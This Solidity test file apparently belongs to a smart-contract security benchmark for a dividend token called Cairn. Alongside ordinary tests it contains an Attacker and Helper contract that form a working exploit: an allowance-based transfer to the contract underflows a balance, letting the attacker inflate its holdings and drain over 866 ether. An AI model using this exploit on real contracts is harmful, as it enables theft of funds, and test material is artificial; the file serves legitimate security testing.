pragma solidity 0.5.17;

import "./Cairn.sol";

// assay-canary-fcf8353e-f2b2-444c-997a-60ea0ca60040

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ANN = address(0xA11);
    address constant BEN = address(0xB11);

    Cairn internal cairn;
    Attacker internal thief;

    function setUp() public {
        cairn = new Cairn();
        vm.deal(ANN, 1100 ether);
        vm.deal(BEN, 20 ether);
        vm.prank(ANN);
        cairn.lay.value(1100 ether)();
        thief = new Attacker(cairn);
        vm.deal(address(thief), 1 ether);
    }

    function test_Regular() public {
        require(cairn.balanceOf(ANN) == 990 ether && cairn.due(ANN) == 0, "first");
        vm.prank(BEN);
        cairn.lay.value(10 ether)();
        require(cairn.balanceOf(BEN) == 9 ether && cairn.totalSupply() == 999 ether, "second");
        require(cairn.due(ANN) > 0.999999 ether && cairn.due(ANN) <= 1 ether, "dividend");
        vm.prank(BEN);
        cairn.takeOut(4 ether);
        require(cairn.balanceOf(BEN) == 5 ether, "taken");
        vm.prank(BEN);
        (bool ok, ) = address(cairn).call(abi.encodeWithSignature("takeOut(uint256)", 5 ether + 1));
        require(!ok, "too many");
        vm.prank(BEN);
        cairn.transfer(ANN, 1 ether);
        vm.prank(BEN);
        cairn.transfer(address(cairn), 1 ether);
        require(cairn.balanceOf(BEN) == 3 ether, "left");
        uint256 due = cairn.due(BEN);
        require(due >= 4.5 ether && due < 4.51 ether, "due");
        vm.prank(BEN);
        cairn.collect();
        require(BEN.balance == 10 ether + due && cairn.due(BEN) == 0, "collected");

        vm.prank(BEN);
        cairn.approve(address(this), 2 ether);
        cairn.transferFrom(BEN, address(0xCAFE), 1 ether);
        require(cairn.balanceOf(address(0xCAFE)) == 1 ether && cairn.balanceOf(BEN) == 2 ether, "from");
        (ok, ) = address(cairn).call(
            abi.encodeWithSignature("transferFrom(address,address,uint256)", BEN, address(0xCAFE), 1 ether + 1)
        );
        require(!ok, "allowance");

        // the agent of a holder takes stones out; both hold some
        cairn.lay.value(0)();
        vm.prank(BEN);
        cairn.transfer(address(this), 1 ether);
        uint256 supply = cairn.totalSupply();
        cairn.transferFrom(BEN, address(cairn), 1 ether);
        require(cairn.totalSupply() == supply - 1 ether, "taken out by agent");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Stones and ether that are not there.
    function test_RefusesPayments() public {
        vm.prank(BEN);
        cairn.lay.value(10 ether)();
        refuses(BEN, "stones");
        cairn.transfer(ANN, 9 ether + 1);
        vm.prank(BEN);
        cairn.approve(address(this), 100 ether);
        vm.expectRevert("stones");
        cairn.transferFrom(BEN, ANN, 9 ether + 1);
        vm.deal(address(cairn), 0);
        refuses(ANN, "payment");
        cairn.collect();
    }

    /// Sums that no number holds.
    function test_RefusesNumbers() public {
        vm.deal(BEN, uint256(-1));
        refuses(BEN, "product");
        cairn.lay.value(uint256(-1) - 2000 ether)();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 866 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(cairn);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// A second account that owns nothing.
contract Helper {
    function () external payable {}

    /// Takes one stone of its owner's out, and then has as many as a number can hold.
    function run(Cairn cairn, uint256 stones) external {
        cairn.transferFrom(msg.sender, address(cairn), 1);
        cairn.transfer(msg.sender, stones);
    }
}

contract Attacker {
    Cairn internal cairn;

    constructor(Cairn cairn_) public {
        cairn = cairn_;
    }

    function () external payable {}

    function run() external {
        cairn.lay.value(1 ether)();
        Helper helper = new Helper();
        cairn.approve(address(helper), 1);
        uint256 goal = cairn.totalSupply() - cairn.balanceOf(address(this)) - 1;
        helper.run(cairn, goal);
        cairn.takeOut(cairn.totalSupply());
        cairn.collect();
    }
}
